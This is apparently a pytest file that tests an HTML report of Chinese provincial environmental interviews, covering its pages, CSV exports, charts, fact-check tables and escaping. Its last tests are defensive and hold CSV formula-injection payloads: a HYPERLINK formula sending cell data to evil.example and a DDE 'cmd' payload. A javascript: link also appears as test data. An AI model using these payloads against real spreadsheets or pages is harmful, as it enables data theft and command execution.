"""The HTML report as a document: pages, tables with CSV, charts as specs, escaping, no network."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest

from mee_interviews.report import write_report
from mee_interviews.report.html import Column, source_link, table
from mee_interviews.report.page import change_text, ranks_text
from mee_interviews.report.pages import yearly_change
from tests.warehouse import factories as f
from tests.warehouse import sample_data as s
from warehouse.engine import open_writer
from warehouse.query import run_readonly
from warehouse.report_data import StaleViewsError

VOID = {"meta", "br", "img", "input", "link", "hr", "col", "wbr", "source", "area", "base"}


class TagBalance(HTMLParser):
    """Records every tag and attribute, and fails on a closing tag that does not match."""

    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.ids: list[str] = []
        self.hrefs: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.ids += [str(v) for k, v in attrs if k == "id"]
        self.hrefs += [str(v) for k, v in attrs if k == "href"]
        if tag not in VOID:
            self.stack.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack[-1] == tag, f"</{tag}> closes {self.stack[-1:]}"
        self.stack.pop()


def parsed(html: str) -> TagBalance:
    parser = TagBalance()
    parser.feed(html)
    parser.close()
    assert parser.stack == [], f"unclosed: {parser.stack}"
    return parser


@pytest.fixture(scope="module")
def warehouse_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return s.build_warehouse(tmp_path_factory.mktemp("report") / "w.duckdb")


@pytest.fixture(scope="module")
def report_file(warehouse_file: Path) -> Path:
    return write_report(warehouse_file, warehouse_file.parent / "out" / "report.html")


@pytest.fixture(scope="module")
def report(report_file: Path) -> str:
    return report_file.read_text(encoding="utf-8")


def section(report: str, page_id: str) -> str:
    return report.split(f'<section class="page" id="{page_id}"')[1].split("</section>")[0]


def chart_specs(report: str) -> dict[str, dict]:
    text = report.split('<script type="application/json" id="chart-specs">')[1].split("</script>")[0]
    return json.loads(text.replace("<\\/", "</"))


def csv_rows(link_html: str) -> list[list[str]]:
    uri = re.search(r'href="data:text/csv;charset=utf-8,([^"]*)"', link_html)
    assert uri, link_html[:200]
    return list(csv.reader(io.StringIO(unquote(uri.group(1)).lstrip("\ufeff"))))


def test_the_report_is_well_formed_and_every_in_page_link_has_its_anchor(report: str) -> None:
    page = parsed(report)
    internal = [h[1:] for h in page.hrefs if h.startswith("#")]
    assert internal and set(internal) <= set(page.ids)


def test_there_is_a_page_per_province_with_an_episode_and_per_reported_core_indicator(report: str) -> None:
    pages = re.findall(r'<section class="page" id="([^"]+)" data-kind="([^"]+)"', report)
    assert ("province-360000", "province") in pages and ("province-420000", "province") in pages
    assert ("province-110000", "province") not in pages  # Beijing has no episode
    indicators = {p for p, kind in pages if kind == "indicator"}
    assert indicators == {
        "indicator-pm25_avg_concentration",
        "indicator-good_air_days_ratio",
        "indicator-surface_water_good_ratio",
        "indicator-better_than_class_ii_ratio",
    }
    assert {"overview", "claims", "checks", "runs"} <= {p for p, _ in pages}


def test_a_province_page_has_its_official_outline_figures_claims_and_sources(report: str) -> None:
    jiangxi = section(report, "province-360000")
    assert "江西省生态环境厅 厅长 李军" in jiangxi
    assert '<ol class="points"><li>一是 美丽底色更亮</li></ol>' in jiangxi
    assert "全国第3 · 中部第1" in jiangxi and "↑4.6个百分点" in jiangxi and "首次超过" in jiangxi
    assert f"「{s.PM25_QUOTE}」" in jiangxi and "全国率先" in jiangxi
    assert jiangxi.count("best source") == 2 and f.MEE_URL in jiangxi


def test_every_table_and_chart_is_followed_by_its_data_as_csv(report: str) -> None:
    pm25 = section(report, "indicator-pm25_avg_concentration")
    chart_csv, table_csv = pm25.split('<a class="csv"')[1:3]
    assert csv_rows(chart_csv) == [
        ["province_short_name", "value", "rank_among_provinces", "national_value"],
        ["江西", "27", "1", "29.3"],
        ["湖北", "33", "2", "29.3"],
    ]
    assert len(csv_rows(table_csv)) == 3
    for page_id in re.findall(r'<section class="page" id="([^"]+)"', report):
        body = section(report, page_id)
        assert body.count("<table") + body.count('class="chart"') == body.count('<a class="csv"'), page_id


def test_the_indicator_chart_is_a_sorted_bar_chart_with_the_national_reference_line(report: str) -> None:
    spec = chart_specs(report)["chart-pm25_avg_concentration"]
    assert spec["$schema"].startswith("https://vega.github.io/schema/vega-lite/")
    bars, _labels, rule, _text = spec["layer"]
    assert bars["mark"]["type"] == "bar" and bars["encoding"]["y"]["sort"] == [
        "江西",
        "湖北",
    ]  # lower is better
    assert rule["mark"]["type"] == "rule" and rule["data"]["values"][0]["national"] == 29.3
    water = chart_specs(report)["chart-surface_water_good_ratio"]
    _bars, _labels, water_rule, _text = water["layer"]  # no episode states it: the official record does
    assert water_rule["data"]["values"][0]["national"] == 90.4


def test_rows_that_carry_quotes_are_searchable_and_the_search_box_is_there(report: str) -> None:
    assert '<input id="search" type="search"' in report
    jiangxi = section(report, "province-360000")
    assert jiangxi.count('<tr class="searchable">') >= 9 + 1  # nine figures and one claim


def test_the_report_loads_nothing_external(report: str, warehouse_file: Path) -> None:
    page = parsed(report)
    assert not any(attrs.get("src") for _, attrs in page.tags)
    assert "<link" not in report and "@import" not in report
    external = {h for h in page.hrefs if not h.startswith(("#", "data:text/csv"))}
    cited = {
        str(r[0])
        for r in run_readonly(warehouse_file, "SELECT DISTINCT cite_url FROM v_reference_figures").rows
    }
    assert (
        {f.WECHAT_URL, f.MEE_URL, s.HUBEI_URL} <= external <= {f.WECHAT_URL, f.MEE_URL, s.HUBEI_URL} | cited
    )
    assert "window.vegaEmbed" in report  # the Vega bundle is inline


def test_text_is_escaped_and_only_http_sources_are_linked() -> None:
    html = table("t", [{"name": "<b>江西省</b>"}], [Column("name", "省份")])
    assert "<b>江西省" not in html and "&lt;b&gt;江西省&lt;/b&gt;" in html
    assert source_link("javascript:alert(1)", "x") == "x"
    assert table("t", [], [Column("name", "省份")]) == '<p class="empty">暂无数据 (none)</p>'


def test_ranks_and_changes_read_as_analysts_write_them() -> None:
    ranks = [
        {"scope": "全国", "position": 3, "of_total": 31},
        {"scope": "中部", "position": 1, "of_total": None},
    ]
    assert ranks_text({"ranks": ranks}) == "全国第3/31 · 中部第1"
    assert change_text("down", 2.0, "percent", "yoy") == "↓2% (同比)"
    assert change_text(None, None, None) == ""


def test_an_indicator_page_charts_the_year_on_year_change_when_one_is_known(report: str) -> None:
    spec = chart_specs(report)["chart-better_than_class_ii_ratio-change"]
    assert spec["data"]["values"] == [{"province": "江西", "change": 4.6, "improved": "改善"}]
    assert "chart-pm25_avg_concentration-change" not in chart_specs(report)  # no change known for PM2.5


def compare_row(**changes: object) -> dict[str, object]:
    row: dict[str, object] = {
        "year": 2024, "unit": "%", "previous_year": None, "change_from_previous_year": None,
        "stated_change_direction": "down", "stated_change_value": 2.0,
        "stated_change_unit": "percentage_point", "stated_change_basis": None,
    }  # fmt: skip
    return {**row, **changes}


def test_a_yearly_change_prefers_the_previous_years_figure_and_skips_relative_or_other_base_changes() -> None:
    assert yearly_change(compare_row()) == -2.0
    assert yearly_change(compare_row(previous_year=2023, change_from_previous_year=1.5)) == 1.5
    assert yearly_change(compare_row(previous_year=2020, change_from_previous_year=1.5)) == -2.0
    assert yearly_change(compare_row(stated_change_unit="percent")) is None
    assert yearly_change(compare_row(stated_change_basis="vs_period")) is None
    assert yearly_change(compare_row(stated_change_direction=None)) is None


def test_a_warehouse_whose_views_predate_the_code_gets_a_clear_error(tmp_path: Path) -> None:
    db = s.build_warehouse(tmp_path / "w.duckdb")
    engine = open_writer(db)
    with engine.begin() as conn:
        conn.exec_driver_sql("CREATE OR REPLACE VIEW v_indicator_compare AS SELECT 1 AS province_code")
    engine.dispose()
    with pytest.raises(StaleViewsError, match="run `mee-interviews reparse` or an ingest"):
        write_report(db, tmp_path / "report.html")
    assert not (tmp_path / "report.html").exists()


def test_the_fact_check_page_lists_every_checked_figure_with_its_verdict_and_both_sources(
    report: str,
) -> None:
    page = section(report, "fact-check")
    assert '<a href="#fact-check">核对 Fact check</a>' in report
    rows = page.split('<tr class="searchable">')[1:]
    assert len(rows) == 10  # every catalog figure of both provinces' episodes, generic ones left out
    (change_only,) = [r for r in rows if s.HUBEI_CHANGE_QUOTE in r]
    assert "仅述变化" in change_only and "不一致" not in change_only
    (good,) = [r for r in rows if "空气优良天数比率96.1%" in r]
    assert "不一致" in good and "95.5" in good and "江西省人民政府关于2024年度环境状况" in good
    assert f'href="{escape(f.WECHAT_URL)}"' in good and 'href="https://jiangxi.jxnews.com.cn/' in good
    (pm25,) = [r for r in rows if s.PM25_QUOTE in r]
    assert ">一致<" in pm25 and "优于全国" in pm25
    spec = chart_specs(report)["chart-fact-check"]
    assert {v["category"]: v["n"] for v in spec["data"]["values"]} == {
        "一致": 4,
        "不一致": 3,
        "无官方数据": 2,
        "仅述变化": 1,
    }


def test_the_fact_check_csv_carries_both_sides_of_every_check(report: str) -> None:
    table_csv = section(report, "fact-check").split('<a class="csv"')[2]
    header, *body = csv_rows(table_csv)
    assert {"quote", "source_url", "reference_value", "reference_title", "reference_url", "verdict"} <= set(
        header
    )
    assert len(body) == 10
    verdicts = {r[header.index("quote")]: r[header.index("verdict")] for r in body}
    assert verdicts["国考断面水质优良比例96.5%"] == "differs"
    assert verdicts[s.HUBEI_CHANGE_QUOTE] == "change_only"


def test_a_change_only_statement_shows_its_change_and_no_value(report: str) -> None:
    figures = section(report, "province-420000").split("数据 Figures")[1].split("</table>")[0]
    (row,) = [r for r in figures.split('<tr class="searchable">')[1:] if s.HUBEI_CHANGE_QUOTE in r]
    assert "仅述变化" in row and "↓5.7%" in row and "None" not in row


def test_a_province_page_charts_its_figures_against_the_national_record(report: str) -> None:
    jiangxi = section(report, "province-360000")
    spec = chart_specs(report)["chart-national-360000"]
    got = {v["indicator"]: (v["value"], v["national"]) for v in spec["data"]["values"]}
    assert got == {
        "pm25_avg_concentration (μg/m³)": (27.0, 29.3),
        "good_air_days_ratio (%)": (96.1, 87.2),
        "surface_water_good_ratio (%)": (96.5, 90.4),
    }
    assert spec["facet"]["row"]["field"] == "indicator" and spec["resolve"]["scale"]["x"] == "independent"
    assert (
        "<th>全国</th><th>核对</th>" in jiangxi and "与全国对照 Against the national record (2024)" in jiangxi
    )


def test_an_indicator_table_says_where_its_national_value_comes_from(report: str) -> None:
    water = section(report, "indicator-surface_water_good_ratio")
    assert "<th>全国数据来源</th>" in water and "2024中国生态环境状况公报" in water
    assert "全国 90.4（虚线，2024中国生态环境状况公报）" in water


def test_csv_cells_that_spreadsheets_would_run_as_formulas_are_neutralised_and_numbers_are_not() -> None:
    hostile = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\0x"]
    rows = [{"text": t, "value": -4.6} for t in hostile] + [{"text": "江西", "value": Decimal("-1.5")}]
    got = csv_rows(table("t", rows, [Column("text", "原文"), Column("value", "数值")]))
    assert got[0] == ["text", "value"]
    assert [r[0] for r in got[1:]] == ["'" + t for t in hostile] + ["江西"]
    assert [r[1] for r in got[1:]] == ["-4.6"] * len(hostile) + ["-1.5"]  # numbers stay numbers


def test_scraped_text_that_starts_a_formula_reaches_the_report_csv_neutralised(tmp_path: Path) -> None:
    db = s.build_warehouse(tmp_path / "w.duckdb")
    engine = open_writer(db)
    with engine.begin() as conn:
        conn.exec_driver_sql("UPDATE claims SET quote = '=cmd|''/c calc''!A1'")
    engine.dispose()
    claims = section(write_report(db, tmp_path / "r.html").read_text(encoding="utf-8"), "claims")
    cells = [cell for link in claims.split('<a class="csv"')[1:] for row in csv_rows(link) for cell in row]
    assert "'=cmd|'/c calc'!A1" in cells and "=cmd|'/c calc'!A1" not in cells
